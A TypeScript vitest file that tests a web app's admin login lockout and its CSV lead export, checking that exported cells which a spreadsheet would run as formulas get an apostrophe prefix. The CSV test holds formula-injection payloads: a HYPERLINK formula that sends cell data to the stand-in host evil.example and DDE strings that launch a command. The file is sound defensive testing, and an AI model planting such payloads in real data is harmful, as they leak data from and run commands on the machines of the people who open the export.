import { describe, expect, inject, it } from 'vitest'
import { as, clientIp, countOf, postHeaders, send, signIn } from './support/http'
import { STAFF } from './support/staff'

/**
 * Issue 12, points 6 and 7: the admin login locks after repeated failures, and CSV exports never
 * hand a spreadsheet a formula a visitor typed.
 */
for (const server of inject('servers')) {
  const login = (password: string) =>
    send(server.base, '/api/users/login', { method: 'POST', headers: { 'content-type': 'application/json', 'accept-language': 'en', ...as(clientIp()) }, body: JSON.stringify({ email: STAFF.lockout.email, password }) })

  describe(`accounts and exports (${server.name})`, () => {
    it('ten failed logins lock the account: the right password is refused until the lock ends', async () => {
      for (let n = 0; n < 10; n++) expect((await login(`wrong-password-${n}`)).status).toBe(401)
      const locked = await login(STAFF.lockout.password)
      expect(locked.status).toBe(401)
      expect(locked.text).toMatch(/locked/i)
      // Other accounts are not affected.
      expect(await signIn(server.base, 'editor')).toMatch(/^payload-token=/)
    })

    it('a CSV export neutralises the cells a spreadsheet would run as formulas', async () => {
      const cells = {
        name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        message: '@SUM(1+1)*cmd|\' /C calc\'!A0',
        utm_source: '+1+cmd|\' /C calc\'!A0',
        utm_medium: '-2+3',
        utm_campaign: '\tTAB=1+1',
      }
      const posted = await send(server.base, '/api/v1/leads', { method: 'POST', headers: postHeaders(), body: JSON.stringify({ ...cells, phone: '+971501234567' }) })
      expect(posted.status).toBe(201)
      const sales = await signIn(server.base, 'sales')
      expect(await countOf(server.base, sales, 'leads')).toBeGreaterThan(0)
      const csv = await send(server.base, '/api/leads/export.csv?limit=1', { headers: { cookie: sales, ...as(clientIp()) } })
      expect(csv.status).toBe(200)
      expect(csv.headers['content-type']).toMatch(/^text\/csv/)
      const row = csv.text.split('\r\n').find((line) => line.includes('HYPERLINK'))
      expect(row).toBeDefined()
      // Each one starts with an apostrophe, inside its quotes when it has any.
      expect(row).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"')
      expect(row).toContain("'@SUM(1+1)*cmd|' /C calc'!A0")
      expect(row).toContain("'+1+cmd|' /C calc'!A0")
      expect(row).toContain("'-2+3")
      // No cell of the row starts a formula, but plain numbers (the phone in E.164), which a spreadsheet reads as numbers.
      for (const cell of row!.split(',')) if (!/^[+-]?\d+(\.\d+)?$/.test(cell)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/)
    })
  })
}
